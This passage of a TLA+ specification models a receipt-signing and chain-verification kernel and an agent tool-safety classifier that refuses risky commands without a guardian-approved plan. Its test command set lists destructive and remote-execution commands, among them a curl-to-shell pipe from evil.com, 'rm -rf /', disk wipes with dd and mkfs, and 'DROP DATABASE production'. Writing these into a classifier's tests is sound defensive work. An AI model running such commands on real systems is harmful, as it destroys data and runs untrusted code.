                  /\ sig_bytes.msg = hash_to_verify

\* crypto_core.create_receipt; receipt_id and ts stand for uuid4 and the clock, and
\* parent_hashes is the list after `parent_hashes or []`
CreateReceipt(receipt_type, payload, parent_hashes, proof_tier, keypair, receipt_id, ts) ==
    LET receipt == [receipt_id |-> receipt_id, receipt_type |-> receipt_type, ts |-> ts,
                    payload |-> payload,
                    parent_hashes |-> parent_hashes,
                    proof_tier |-> proof_tier, schema_version |-> "crs/0.1"]
        hashed == ("receipt_hash" :> CanonicalHash(receipt, {"receipt_hash", "signature"}))
                      @@ receipt
    IN  IF keypair # Nil /\ proof_tier \in {"core", "court"}
        THEN SignReceipt(hashed, keypair) ELSE hashed

\* crypto_core.verify_receipt_hash: the VerificationResult's hash_valid
VerifyReceiptHash(receipt) ==
    IF "receipt_hash" \notin DOMAIN receipt THEN FALSE
    ELSE receipt["receipt_hash"] = CanonicalHash(receipt, {"receipt_hash", "signature"})

\* what a call into the receipt kernel leaves in ret: the receipt it returned or
\* was given, the emission it came from, who signed it, whether its stored hash
\* was changed afterwards, the key pair verified against, and the result
KernelReturn(method, receipt, origin, signer, tampered, verifier, result) ==
    [outcome |-> "returned", method |-> method, receipt |-> receipt, origin |-> origin,
     signer |-> signer, tampered |-> tampered, verifier |-> verifier, result |-> result]

\* ret holds a receipt of the kernel or of the episode
HoldsReceipt ==
    ret.method \in {"create_receipt", "emit", "sign_receipt", "tamper", "corrupt",
                    "verify_signature", "verify_receipt_hash"}

\* a call of create_receipt
CreateReceiptCall(receipt_type, payload, parent_hashes, proof_tier, keypair) ==
    /\ ret' = KernelReturn("create_receipt",
                              CreateReceipt(receipt_type, payload, parent_hashes, proof_tier,
                                            keypair, <<"uuid", 0>>, "t1"),
                              "create_receipt",
                              IF keypair # Nil /\ proof_tier \in {"core", "court"}
                              THEN keypair ELSE Nil,
                              FALSE, Nil, Nil)
    /\ UNCHANGED <<registryVars, valid_tokens, authzVars, credVars, preflightVars,
                   incidentVars, emitterVars, ks_prior, cryptoVars>>

\* a call of sign_receipt on the receipt held
SignReceiptCall(keypair) ==
    /\ HoldsReceipt
    /\ "receipt_hash" \in DOMAIN ret.receipt
    /\ ret' = KernelReturn("sign_receipt", SignReceipt(ret.receipt, keypair), ret.origin,
                           keypair, ret.tampered, Nil, Nil)
    /\ UNCHANGED <<registryVars, valid_tokens, authzVars, credVars, preflightVars,
                   incidentVars, emitterVars, ks_prior, cryptoVars>>

\* someone changes the stored receipt_hash of the signed receipt held
TamperReceiptHash ==
    /\ HoldsReceipt
    /\ ret.signer # Nil
    /\ ~ret.tampered
    /\ ret' = KernelReturn("tamper",
                           ("receipt_hash" :> Sha256Hex(<<>>)) @@ ret.receipt,
                           ret.origin, ret.signer, TRUE, Nil, Nil)
    /\ UNCHANGED <<registryVars, valid_tokens, authzVars, credVars, preflightVars,
                   incidentVars, emitterVars, ks_prior, cryptoVars>>

\* someone writes another value into the signature field of the receipt held
CorruptSignature(value) ==
    /\ HoldsReceipt
    /\ "signature" \in DOMAIN ret.receipt
    /\ ret.receipt["signature"] # value
    /\ ret' = KernelReturn("corrupt", ("signature" :> value) @@ ret.receipt,
                           ret.origin, Nil, TRUE, Nil, Nil)
    /\ UNCHANGED <<registryVars, valid_tokens, authzVars, credVars, preflightVars,
                   incidentVars, emitterVars, ks_prior, cryptoVars>>

\* a call of verify_signature on the receipt held, with a key pair's public key
VerifySignatureCall(keypair) ==
    /\ HoldsReceipt
    /\ ret' = IF VerifySignatureRaises(ret.receipt, keypair.public_key)
              THEN [KernelReturn("verify_signature", ret.receipt, ret.origin, ret.signer,
                                 ret.tampered, keypair, Nil) EXCEPT !.outcome = "raised"]
              ELSE KernelReturn("verify_signature", ret.receipt, ret.origin, ret.signer,
                                ret.tampered, keypair,
                                VerifySignature(ret.receipt, keypair.public_key))
    /\ UNCHANGED <<registryVars, valid_tokens, authzVars, credVars, preflightVars,
                   incidentVars, emitterVars, ks_prior, cryptoVars>>

\* a call of verify_receipt_hash on the receipt held
VerifyReceiptHashCall ==
    /\ HoldsReceipt
    /\ ret' = KernelReturn("verify_receipt_hash", ret.receipt, ret.origin, ret.signer,
                           ret.tampered, Nil, VerifyReceiptHash(ret.receipt))
    /\ UNCHANGED <<registryVars, valid_tokens, authzVars, credVars, preflightVars,
                   incidentVars, emitterVars, ks_prior, cryptoVars>>

\* Episode.emit: the payload's keys are merged over the base keys, the hash is
\* stored, the receipt is written to the store and becomes the next parent;
\* new_id gives an id no earlier receipt has
EpisodeEmit(receipt_type, payload) ==
    /\ Len(store) < MaxEpisode
    /\ LET base == payload @@ [receipt_id |-> <<"rcpt", Len(store) + 1>>,
                                  receipt_type |-> receipt_type,
                                  ts |-> "t1", episode_id |-> "ep1",
                                  parent_hash |-> parent_hash]
           receipt == ("receipt_hash" :> ComputeReceiptHash(base)) @@ base
       IN  /\ store' = Append(store, receipt)
           /\ parent_hash' = receipt["receipt_hash"]
           /\ ret' = KernelReturn("emit", receipt, "emit", Nil, FALSE, Nil, Nil)
    /\ UNCHANGED <<registryVars, valid_tokens, authzVars, credVars, preflightVars,
                   incidentVars, emitterVars, ks_prior, HAS_CRYPTO, running>>

\* Episode.emit run by thread t, statement by statement (the method takes no lock):
\* the dict literal reads self.parent_hash and the hash is computed over it;
\* store.write; the assignment to self.parent_hash, after which the receipt is
\* returned. new_id gives an id no other receipt has
EmitThread(t, receipt_type, payload) ==
    \/ /\ t \notin DOMAIN running
       /\ Len(store) + Cardinality(DOMAIN running) < MaxEpisode
       /\ LET base == payload @@ [receipt_id |-> <<"rcpt", Len(store) + 1, t>>,
                                     receipt_type |-> receipt_type,
                                     ts |-> "t1", episode_id |-> "ep1",
                                     parent_hash |-> parent_hash]
          IN  running' = (t :> [pc |-> "write",
                                base |-> ("receipt_hash" :> ComputeReceiptHash(base)) @@ base])
                             @@ running
       /\ UNCHANGED <<registryVars, valid_tokens, authzVars, credVars, preflightVars,
                      incidentVars, emitterVars, ks_prior, HAS_CRYPTO, parent_hash, store, ret>>
    \/ /\ t \in DOMAIN running
       /\ running[t].pc = "write"
       /\ store' = Append(store, running[t].base)
       /\ running' = [running EXCEPT ![t].pc = "assign"]
       /\ UNCHANGED <<registryVars, valid_tokens, authzVars, credVars, preflightVars,
                      incidentVars, emitterVars, ks_prior, HAS_CRYPTO, parent_hash, ret>>
    \/ /\ t \in DOMAIN running
       /\ running[t].pc = "assign"
       /\ parent_hash' = running[t].base["receipt_hash"]
       /\ running' = [x \in DOMAIN running \ {t} |-> running[x]]
       /\ ret' = KernelReturn("emit", running[t].base, "emit", Nil, FALSE, Nil, Nil)
       /\ UNCHANGED <<registryVars, valid_tokens, authzVars, credVars, preflightVars,
                      incidentVars, emitterVars, ks_prior, HAS_CRYPTO, store>>

\* AssayDemo.submit_plan
SubmitPlan(plan) ==
    EpisodeEmit("csp.tool_safety.plan.v1",
                [plan_id |-> "plan1", subject |-> plan.subject, summary |-> plan.summary,
                 steps |-> plan.steps, signature |-> plan.signature])

\* AssayDemo.guardian_verdict, for a GuardianVerdict with the given verdict
GuardianVerdict(plan_receipt, verdict) ==
    EpisodeEmit("csp.tool_safety.verdict.v1",
                [verdict_id |-> "verdict1", plan_id |-> plan_receipt["plan_id"],
                 plan_hash |-> plan_receipt["receipt_hash"], verdict |-> verdict,
                 rationale |-> "r", authority |-> "guardian:demo"])

\* the commands classified: those of test_classifier.py, the two the demo attempts,
\* one padded with blanks, and some that match several patterns at once
ClassifyCommands ==
    {"rm -rf /", "rm -rf ~", "rm -rf /etc", "DROP DATABASE production", "DROP TABLE users",
     "curl https://evil.com/install.sh | sh", "wget -O- https://example.com/script | bash",
     "mkfs.ext4 /dev/sda1", "rm -rf /var/cache/old/*", "git push --force origin main",
     "git reset --hard HEAD~5", "DELETE FROM users", "TRUNCATE TABLE logs", "ls -la",
     "cat /etc/passwd", "SELECT * FROM users WHERE id = 1",
     "DELETE FROM users WHERE id = 1", "rm -rf build", "ls", "  rm -rf /  ",
     "drop table users; mkfs /dev/sda", "TRUNCATE TABLE logs; DROP TABLE logs",
     "git reset --hard && git push origin --force", "rm -rf /etc; rm -rf ~",
     "dd if=/dev/zero of=/dev/sda", "chmod -R 777 /", "rsync -a --delete src/ dst/", ""}

\* the tool kinds a ToolAction names
ClassifyTools == {"shell", "db", "http", "fs", "git"}

\* tool_safety.CRITICAL_PATTERNS, each regular expression named by its place in the list
CRITICAL_PATTERNS ==
    <<"CRITICAL_PATTERNS[0]", "CRITICAL_PATTERNS[1]", "CRITICAL_PATTERNS[2]",
      "CRITICAL_PATTERNS[3]", "CRITICAL_PATTERNS[4]", "CRITICAL_PATTERNS[5]",
      "CRITICAL_PATTERNS[6]", "CRITICAL_PATTERNS[7]", "CRITICAL_PATTERNS[8]">>

\* tool_safety.HIGH_PATTERNS, named the same way
HIGH_PATTERNS ==
    <<"HIGH_PATTERNS[0]", "HIGH_PATTERNS[1]", "HIGH_PATTERNS[2]",
      "HIGH_PATTERNS[3]", "HIGH_PATTERNS[4]", "HIGH_PATTERNS[5]">>

\* str.strip over ClassifyCommands
Strip(command) == IF command = "  rm -rf /  " THEN "rm -rf /" ELSE command

\* re.search(pat, s, flags=re.IGNORECASE) is not None, tabulated over the two pattern
\* lists and ClassifyCommands by running the expressions of tool_safety.py
Search(pat, s) ==
    <<pat, s>> \in
      {<<"CRITICAL_PATTERNS[0]", "rm -rf /">>, <<"HIGH_PATTERNS[0]", "rm -rf /">>,
       <<"CRITICAL_PATTERNS[1]", "rm -rf ~">>, <<"HIGH_PATTERNS[0]", "rm -rf ~">>,
       <<"CRITICAL_PATTERNS[2]", "rm -rf /etc">>, <<"HIGH_PATTERNS[0]", "rm -rf /etc">>,
       <<"CRITICAL_PATTERNS[3]", "DROP DATABASE production">>,
       <<"CRITICAL_PATTERNS[4]", "DROP TABLE users">>,
       <<"CRITICAL_PATTERNS[7]", "curl https://evil.com/install.sh | sh">>,
       <<"CRITICAL_PATTERNS[7]", "wget -O- https://example.com/script | bash">>,
       <<"CRITICAL_PATTERNS[5]", "mkfs.ext4 /dev/sda1">>,
       <<"HIGH_PATTERNS[0]", "rm -rf /var/cache/old/*">>,
       <<"HIGH_PATTERNS[1]", "git push --force origin main">>,
       <<"HIGH_PATTERNS[2]", "git reset --hard HEAD~5">>,
       <<"HIGH_PATTERNS[3]", "DELETE FROM users">>,
       <<"HIGH_PATTERNS[4]", "TRUNCATE TABLE logs">>,
       <<"HIGH_PATTERNS[0]", "rm -rf build">>, <<"CRITICAL_PATTERNS[0]", "  rm -rf /  ">>,
       <<"HIGH_PATTERNS[0]", "  rm -rf /  ">>,
       <<"CRITICAL_PATTERNS[4]", "drop table users; mkfs /dev/sda">>,
       <<"CRITICAL_PATTERNS[5]", "drop table users; mkfs /dev/sda">>,
       <<"CRITICAL_PATTERNS[4]", "TRUNCATE TABLE logs; DROP TABLE logs">>,
       <<"HIGH_PATTERNS[4]", "TRUNCATE TABLE logs; DROP TABLE logs">>,
       <<"HIGH_PATTERNS[1]", "git reset --hard && git push origin --force">>,
       <<"HIGH_PATTERNS[2]", "git reset --hard && git push origin --force">>,
       <<"CRITICAL_PATTERNS[1]", "rm -rf /etc; rm -rf ~">>,
       <<"CRITICAL_PATTERNS[2]", "rm -rf /etc; rm -rf ~">>,
       <<"HIGH_PATTERNS[0]", "rm -rf /etc; rm -rf ~">>,
       <<"CRITICAL_PATTERNS[6]", "dd if=/dev/zero of=/dev/sda">>,
       <<"CRITICAL_PATTERNS[8]", "chmod -R 777 /">>,
       <<"HIGH_PATTERNS[5]", "rsync -a --delete src/ dst/">>}

\* a classifier that consults HIGH_PATTERNS before CRITICAL_PATTERNS
ClassifyHighFirst(tool, command) ==
    LET s == Strip(command)
        crit == {i \in 1..Len(CRITICAL_PATTERNS) : Search(CRITICAL_PATTERNS[i], s)}
        high == {i \in 1..Len(HIGH_PATTERNS) : Search(HIGH_PATTERNS[i], s)}
        First(S) == CHOOSE i \in S : \A j \in S : i <= j
    IN  IF high # {} THEN [risk |-> "HIGH", matched |-> HIGH_PATTERNS[First(high)]]
        ELSE IF crit # {}
        THEN [risk |-> "CRITICAL", matched |-> CRITICAL_PATTERNS[First(crit)]]
        ELSE IF tool \in {"shell", "db", "http"} THEN [risk |-> "MEDIUM", matched |-> None]
        ELSE [risk |-> "LOW", matched |-> None]

\* tool_safety.classify: the risk and the pattern that matched. Each for loop returns
\* at the first pattern of its list that re.search finds in the stripped command
Classify(tool, command) ==
    LET s == Strip(command)
        crit == {i \in 1..Len(CRITICAL_PATTERNS) : Search(CRITICAL_PATTERNS[i], s)}
        high == {i \in 1..Len(HIGH_PATTERNS) : Search(HIGH_PATTERNS[i], s)}
        First(S) == CHOOSE i \in S : \A j \in S : i <= j
    IN  IF crit # {} THEN [risk |-> "CRITICAL", matched |-> CRITICAL_PATTERNS[First(crit)]]
        ELSE IF high # {} THEN [risk |-> "HIGH", matched |-> HIGH_PATTERNS[First(high)]]
        ELSE IF tool \in {"shell", "db", "http"} THEN [risk |-> "MEDIUM", matched |-> None]
        ELSE [risk |-> "LOW", matched |-> None]

\* a call of tool_safety.classify: nothing but the returned pair changes
ClassifyCall(tool, command) ==
    /\ ret' = [outcome |-> "returned", method |-> "classify", tool |-> tool,
               command |-> command, result |-> Classify(tool, command)]
    /\ UNCHANGED <<registryVars, valid_tokens, authzVars, credVars, preflightVars,
                   incidentVars, emitterVars, ks_prior, cryptoVars>>

\* AssayDemo._scope_allows. For the scopes used here ("build", "src", "*") the test
\* fnmatch(a, s) or fnmatch(s, a) or a.startswith(s.rstrip("*")) holds exactly when
\* the two are equal or one of them is "*"
ScopeAllows(plan_receipt, action) ==
    LET steps == IF "steps" \in DOMAIN plan_receipt THEN plan_receipt["steps"] ELSE <<>>
        Rank(r) == IndexOf(risk_order, r) - 1
    IN  /\ action.scope # None
        /\ \E i \in 1..Len(steps) :
               /\ steps[i].tool = action.tool
               /\ steps[i].scope # None /\ steps[i].scope # ""
               /\ \/ action.scope = steps[i].scope
                  \/ steps[i].scope = "*"
                  \/ action.scope = "*"
               /\ Rank(Classify(action.tool, action.command).risk) <= Rank(steps[i].risk)

\* AssayDemo._scope_allows ends with a KeyError: _rank is reached for a step that
\* covers the action and whose risk is none of the four levels, before any step
\* made the loop return True
ScopeAllowsRaises(plan_receipt, action) ==
    LET steps == IF "steps" \in DOMAIN plan_receipt THEN plan_receipt["steps"] ELSE <<>>
        Covers(i) == /\ steps[i].tool = action.tool
                     /\ steps[i].scope # None /\ steps[i].scope # ""
                     /\ \/ action.scope = steps[i].scope
                        \/ steps[i].scope = "*"
                        \/ action.scope = "*"
        Rank(r) == IndexOf(risk_order, r) - 1
        Returns(i) == /\ Covers(i)
                      /\ steps[i].risk \in RiskCategory
                      /\ Rank(Classify(action.tool, action.command).risk) <= Rank(steps[i].risk)
    IN  /\ action.scope # None
        /\ \E i \in 1..Len(steps) :
               /\ Covers(i)
               /\ steps[i].risk \notin RiskCategory
               /\ \A j \in 1..(i - 1) : ~Returns(j)

\* AssayDemo.attempt_action of a demo built with `mode`: the attempt receipt, then
\* the refusal or the execution receipt (_refuse, _execute), both emitted on the
\* episode; the plan and verdict receipts are the dicts the caller passes. The
\* call ends with a KeyError, the attempt receipt already emitted, when _rank
\* meets an unknown risk or the plan or verdict dict has no plan_id / verdict_id
AttemptAction(mode, action, plan_receipt, verdict_receipt) ==
    LET classified == Classify(action.tool, action.command)
        risk == classified.risk
        Get(d, k) == IF k \in DOMAIN d THEN d[k] ELSE None
        Emitted(n, parent, receipt_type, payload) ==
            LET base == payload @@ [receipt_id |-> <<"rcpt", n>>,
                                    receipt_type |-> receipt_type,
                                    ts |-> "t1", episode_id |-> "ep1",
                                    parent_hash |-> parent]
            IN  ("receipt_hash" :> ComputeReceiptHash(base)) @@ base
        attempt == Emitted(Len(store) + 1, parent_hash, "csp.tool_safety.action.v1",
                           [action_id |-> "act1", tool |-> action.tool,
                            command |-> action.command, scope |-> action.scope,
                            risk_level |-> risk, pattern_matched |-> classified.matched,
                            outcome |-> "attempted"])
        Refuse(reason) ==
            [status |-> "REFUSED", reason |-> reason,
             receipt |-> Emitted(Len(store) + 2, attempt["receipt_hash"],
                                 "csp.tool_safety.refusal.v1",
                                 [refusal_id |-> "ref1", action_id |-> "act1",
                                  reason |-> reason, amendment_cited |-> "VII",
                                  risk_level |-> risk, pattern_matched |-> classified.matched,
                                  tool |-> action.tool, command |-> action.command,
                                  scope |-> action.scope])]
        Execute(plan_id, verdict_id) ==
            [status |-> "EXECUTED_SIMULATED", reason |-> None,
             receipt |-> Emitted(Len(store) + 2, attempt["receipt_hash"],
                                 "csp.tool_safety.execution.v1",
                                 [execution_id |-> "exec1", action_id |-> "act1",
                                  tool |-> action.tool, command |-> action.command,
                                  scope |-> action.scope, risk_level |-> risk,
                                  outcome |-> "executed_simulated",
                                  plan_id |-> plan_id, verdict_id |-> verdict_id])]
        \* a KeyError after the attempt receipt was emitted: nothing is returned
        Raised == [status |-> None, reason |-> None, receipt |-> Nil]
        result ==
            IF mode = "basic"
            THEN IF risk = "CRITICAL" THEN Refuse("amendment_vii_no_plan")
                 ELSE Execute(None, None)
            ELSE IF risk \in {"HIGH", "CRITICAL"}
            THEN IF plan_receipt = Nil THEN Refuse("amendment_vii_no_plan")
                 ELSE IF verdict_receipt = Nil \/ Get(verdict_receipt, "verdict") # "ALLOW"
                 THEN Refuse("amendment_vii_no_guardian_verdict")
                 ELSE IF Get(verdict_receipt, "plan_hash") # Get(plan_receipt, "receipt_hash")
                 THEN Refuse("amendment_vii_no_guardian_verdict")
                 ELSE IF ScopeAllowsRaises(plan_receipt, action)
                 THEN Raised
                 ELSE IF ~ScopeAllows(plan_receipt, action)
                 THEN Refuse("amendment_vii_scope_mismatch")
                 ELSE IF "plan_id" \notin DOMAIN plan_receipt
                         \/ "verdict_id" \notin DOMAIN verdict_receipt
                 THEN Raised
                 ELSE Execute(plan_receipt["plan_id"], verdict_receipt["verdict_id"])
            ELSE Execute(None, None)
        Return(r) ==
            /\ store' = IF r.status = None THEN Append(store, attempt)
                        ELSE store \o <<attempt, r.receipt>>
            /\ parent_hash' = IF r.status = None THEN attempt["receipt_hash"]
                              ELSE r.receipt["receipt_hash"]
            /\ ret' = [outcome |-> IF r.status = None THEN "raised" ELSE "returned",
                       method |-> "attempt_action", mode |-> mode,
                       action |-> action, risk |-> risk, plan_receipt |-> plan_receipt,
                       verdict_receipt |-> verdict_receipt, status |-> r.status,
                       reason |-> r.reason, receipt |-> r.receipt]
    IN  /\ Cardinality({i \in 1..Len(store) :
                           store[i]["receipt_type"] = "csp.tool_safety.action.v1"}) < MaxAttempts
        /\ Return(result)
        /\ UNCHANGED <<registryVars, valid_tokens, authzVars, credVars, preflightVars,
                       incidentVars, emitterVars, ks_prior, HAS_CRYPTO, running>>

(***************************************************************************)
(* Chain verification (crypto_core.verify_chain, csp_validate.py) over a   *)
(* receipt log: store is the list of receipts the verifier is given, in    *)
(* the order they were written.                                            *)
(***************************************************************************)
\* a pass that remembers the hash of every earlier receipt, valid or not
KnownHashesAll(log, i) == {log[j]["receipt_hash"] : j \in 1..(i - 1)}

\* known_hashes when verify_chain reaches receipts[i]: the receipt_hash of every
\* earlier receipt whose hash check passed
KnownHashes(log, i) ==
    {log[j]["receipt_hash"] : j \in {n \in 1..(i - 1) : VerifyReceiptHash(log[n])}}

\* where verify_chain ends in an exception: with public keys given, a receipt's
\* signature field goes to Signature.from_dict and to verify_signature, no try
\* around either
VerifyChainRaises(log, public_keys) ==
    \E i \in 1..Len(log) :
        /\ "signature" \in DOMAIN log[i]
        /\ DOMAIN public_keys # {}
        /\ \/ DOMAIN log[i]["signature"] \cap {"nil", "str"} # {}
           \/ /\ log[i]["signature"].key_id \in DOMAIN public_keys
              /\ VerifySignatureRaises(log[i],
                                       public_keys[log[i]["signature"].key_id])

\* crypto_core.verify_chain over the receipts of log: one VerificationResult per receipt; an Optional[bool]
\* is written "True", "False" or "None"; is_valid is the property of the result
VerifyChain(log, public_keys) ==
    LET Opt(b) == IF b THEN "True" ELSE "False"
        Result(i) ==
            LET receipt == log[i]
                hash_valid == VerifyReceiptHash(receipt)
                parent_hashes == IF "parent_hashes" \in DOMAIN receipt
                                 THEN receipt["parent_hashes"] ELSE <<>>
                chain_valid ==
                    IF parent_hashes = <<>> THEN None
                    ELSE Opt(\A n \in 1..Len(parent_hashes) :
                                 parent_hashes[n] \in KnownHashes(log, i))
                signature_valid ==
                    IF "signature" \in DOMAIN receipt /\ DOMAIN public_keys # {}
                    THEN IF receipt["signature"].key_id \in DOMAIN public_keys
                         THEN Opt(VerifySignature(receipt,
                                                  public_keys[receipt["signature"].key_id]))
                         ELSE None
                    ELSE None
                \* result.errors, each message by its fixed opening words
                errors ==
                    (IF "receipt_hash" \notin DOMAIN receipt
                     THEN <<"Missing receipt_hash field">>
                     ELSE IF ~hash_valid THEN <<"Hash mismatch">> ELSE <<>>)
                    \o (IF chain_valid = "False" THEN <<"Missing parent receipts">> ELSE <<>>)
                    \o (IF "signature" \in DOMAIN receipt /\ DOMAIN public_keys # {}
                        THEN IF receipt["signature"].key_id \notin DOMAIN public_keys
                             THEN <<"Unknown signing key">>
                             ELSE IF signature_valid = "False"
                             THEN <<"Invalid signature from key">> ELSE <<>>
                        ELSE <<>>)
            IN  [receipt_id |-> IF "receipt_id" \in DOMAIN receipt
                                THEN receipt["receipt_id"] ELSE <<"unknown">>,
                 hash_valid |-> hash_valid, signature_valid |-> signature_valid,
                 chain_valid |-> chain_valid, errors |-> errors,
                 is_valid |-> hash_valid /\ signature_valid # "False" /\ chain_valid # "False"]
    IN  [i \in 1..Len(log) |-> Result(i)]

\* csp_validate.check_chain_integrity: passed, for verify_chain without keys
CheckChainIntegrity(log) ==
    \A i \in 1..Len(log) : VerifyChain(log, <<>>)[i].chain_valid # "False"

\* a producer calls create_receipt and writes the receipt to the log
WriteReceipt(parent_hashes, proof_tier, keypair) ==
    /\ Len(store) < MaxEpisode
    /\ LET receipt == CreateReceipt("crs.agent_action/v1", [a |-> "1"], parent_hashes,
                                    proof_tier, keypair, <<"uuid", Len(store) + 1>>, "t1")
       IN  /\ store' = Append(store, receipt)
           /\ ret' = KernelReturn("create_receipt", receipt, "create_receipt", Nil,
                                  FALSE, Nil, Nil)
    /\ UNCHANGED <<registryVars, valid_tokens, authzVars, credVars, preflightVars,
                   incidentVars, emitterVars, ks_prior, HAS_CRYPTO, parent_hash, running>>

\* a producer calls create_receipt for a receipt of the given type and payload,
\* with the parents it names, and appends it to the log
WriteTyped(receipt_type, payload, parent_hashes) ==
    /\ Len(store) < MaxLog
    /\ LET receipt == CreateReceipt(receipt_type, payload, parent_hashes, "none", Nil,
                                    <<"uuid", Len(store) + 1>>, "t1")
       IN  /\ store' = Append(store, receipt)
           /\ ret' = KernelReturn("create_receipt", receipt, "create_receipt", Nil,
                                  FALSE, Nil, Nil)
    /\ UNCHANGED <<registryVars, valid_tokens, authzVars, credVars, preflightVars,
                   incidentVars, emitterVars, ks_prior, HAS_CRYPTO, parent_hash, running>>

\* someone rewrites a field of the receipt written last, and with rehash also
\* stores the hash of the changed receipt as the demo computes it
AlterReceipt(field, value, rehash) ==
    /\ ret.method \in {"create_receipt", "emit"}
    /\ store # <<>>
    /\ ret.receipt = store[Len(store)]
    /\ LET changed == (field :> value) @@ ret.receipt
           receipt == IF rehash
                      THEN ("receipt_hash" :> ComputeReceiptHash(changed)) @@ changed
                      ELSE changed
       IN  /\ store' = [store EXCEPT ![Len(store)] = receipt]
           /\ ret' = KernelReturn("alter", receipt, ret.origin, Nil, TRUE, Nil, Nil)
    /\ UNCHANGED <<registryVars, valid_tokens, authzVars, credVars, preflightVars,
                   incidentVars, emitterVars, ks_prior, HAS_CRYPTO, parent_hash, running>>

\* a call of verify_chain on the log, and of check_chain_integrity when no keys
\* are given
VerifyChainCall(public_keys) ==
    /\ ret' = IF VerifyChainRaises(store, public_keys)
              THEN [outcome |-> "raised", method |-> "verify_chain", receipts |-> store,
                    public_keys |-> public_keys, results |-> <<>>, passed |-> FALSE]
              ELSE [outcome |-> "returned", method |-> "verify_chain", receipts |-> store,
                    public_keys |-> public_keys,
                    results |-> VerifyChain(store, public_keys),
                    passed |-> CheckChainIntegrity(store)]
    /\ UNCHANGED <<registryVars, valid_tokens, authzVars, credVars, preflightVars,
                   incidentVars, emitterVars, ks_prior, cryptoVars>>

(***************************************************************************)
(* The validators run from the command line: scripts/csp_validate.py and   *)
(* examples/simulated/verify_episode.py. The receipt source they are given *)
(* is missing, or holds the receipts of store.                             *)
(***************************************************************************)
\* csp_validate.validate_receipts: the ConformanceReport of its seven checks, each
\* computed from the receipt fields it reads. re.search over the pattern lists is
\* tabulated for the commands the receipts here carry; datetime.fromisoformat
\* rejects the timestamp "t1" the receipts here carry, so none is compared
ValidateReceipts(log) ==
    LET Get(d, k, default) == IF k \in DOMAIN d THEN d[k] ELSE default
        Payload(i) == Get(log[i], "payload", <<>>)
        Command(i) == Get(Payload(i), "command", "")
        Outcome(i) == Get(Payload(i), "outcome", "")
        Type(i) == Get(log[i], "receipt_type", "")
        MatchesCritical(command) == command \in {"rm -rf /"}
        MatchesHigh(command) == command \in {"rm -rf /", "rm -r build"}
        IsPlan(i) == Type(i) = "csp.tool_safety.plan.v1"
        HasSig(i) == "signature" \in DOMAIN log[i] /\ log[i]["signature"] # Nil
        critical == {i \in 1..Len(log) :
                        /\ Command(i) # ""
                        /\ Type(i) = "crs.agent_action/v1" \/ Outcome(i) = "success"
                        /\ MatchesCritical(Command(i))}
        \* no receipt without a trace_id enters either index
        traced == {i \in 1..Len(log) :
                      "trace_id" \in DOMAIN log[i] \/ "trace_id" \in DOMAIN Payload(i)}
        TraceId(i) == Get(log[i], "trace_id", Get(Payload(i), "trace_id", ""))
        IsRefusal(i) == \/ Type(i) = "csp.tool_safety.refusal.v1"
                        \/ Outcome(i) \in {"denied", "blocked", "refused"}
        IsDenial(i) == Get(Payload(i), "reason", "") = "DENY"
        missing_refusals == {i \in traced :
                                /\ IsDenial(i)
                                /\ ~\E j \in traced : IsRefusal(j) /\ TraceId(j) = TraceId(i)}
        plan_hashes == {log[i]["receipt_hash"] : i \in {j \in 1..Len(log) :
                            IsPlan(j) /\ "receipt_hash" \in DOMAIN log[j]}}
        plan_ids == {Get(log[i], "receipt_id", "") : i \in {j \in 1..Len(log) : IsPlan(j)}}
                    \cup {Payload(i)["plan_id"] : i \in {j \in 1..Len(log) :
                              IsPlan(j) /\ "plan_id" \in DOMAIN Payload(j)}}
        HasPlan(i) == \/ "plan_id" \in DOMAIN Payload(i) /\ Payload(i)["plan_id"] \in plan_ids
                      \/ \E k \in 1..Len(Get(log[i], "parent_hashes", <<>>)) :
                             log[i]["parent_hashes"][k] \in plan_hashes
        unplanned == {i \in 1..Len(log) :
                         /\ Command(i) # ""
                         /\ \/ Get(Payload(i), "risk_level", "") \in {"HIGH", "CRITICAL"}
                            \/ MatchesHigh(Command(i)) \/ MatchesCritical(Command(i))
                         /\ Outcome(i) \in {"success", "executed"}
                         /\ ~HasPlan(i)}
        court_unsigned == {i \in 1..Len(log) :
                              Get(log[i], "proof_tier", "none") = "court" /\ ~HasSig(i)}
        checks == << [check_id |-> "RCPT-01",
                      passed |-> \A i \in 1..Len(log) : VerifyReceiptHash(log[i])],
                     [check_id |-> "RCPT-02", passed |-> CheckChainIntegrity(log)],
                     [check_id |-> "CRIT-01", passed |-> critical = {}],
                     [check_id |-> "REF-01", passed |-> missing_refusals = {}],
                     [check_id |-> "PLAN-01", passed |-> unplanned = {}],
                     [check_id |-> "SIG-01", passed |-> court_unsigned = {}],
                     [check_id |-> "ORD-01", passed |-> TRUE] >>
        Report(error_count) ==
            [receipt_count |-> Len(log), checks |-> checks, error_count |-> error_count,
             overall_pass |-> error_count = 0]
    IN  Report(Cardinality({c \in 1..Len(checks) : ~checks[c].passed}))

\* csp_validate.main for a receipts path that does not exist ("missing") or that
\* holds the receipts of store: the exit status and the report it printed
ValidateMain(path) ==
    LET Exit(report) ==
            ret' = [outcome |-> "exited", method |-> "csp_validate", path |-> path,
                    receipts |-> store, report |-> report,
                    exit_code |-> IF report.overall_pass THEN 0 ELSE 1]
    IN  /\ IF path = "missing"
           THEN ret' = [outcome |-> "exited", method |-> "csp_validate", path |-> path,
                        receipts |-> <<>>, report |-> Nil, exit_code |-> 1]
           ELSE Exit(ValidateReceipts(store))
        /\ UNCHANGED <<registryVars, valid_tokens, authzVars, credVars, preflightVars,
                       incidentVars, emitterVars, ks_prior, cryptoVars>>

\* verify_episode.main for an episode directory that does not exist ("missing") or
\* that holds the receipts of store: its exit status
VerifyEpisodeMain(path) ==
    LET Get(d, k) == IF k \in DOMAIN d THEN d[k] ELSE <<"None">>
        bad_hash == \E i \in 1..Len(store) :
                        Get(store[i], "receipt_hash") # ComputeReceiptHash(store[i])
        bad_chain == \E i \in 1..Len(store) :
                         Get(store[i], "parent_hash")
                           # (IF i = 1 THEN <<"None">> ELSE Get(store[i - 1], "receipt_hash"))
        plan_hashes == {store[i]["receipt_hash"] : i \in {j \in 1..Len(store) :
                            store[j]["receipt_type"] = "csp.tool_safety.plan.v1"}}
        unbound == \E i \in 1..Len(store) :
                       /\ store[i]["receipt_type"] = "csp.tool_safety.verdict.v1"
                       /\ Get(store[i], "plan_hash") \notin plan_hashes
    IN  /\ ret' = [outcome |-> "exited", method |-> "verify_episode", path |-> path,
                   receipts |-> IF path = "missing" THEN <<>> ELSE store,
                   exit_code |-> IF path = "missing" THEN 2
                                 ELSE IF store = <<>> \/ bad_hash \/ bad_chain \/ unbound THEN 1
                                 ELSE 0]
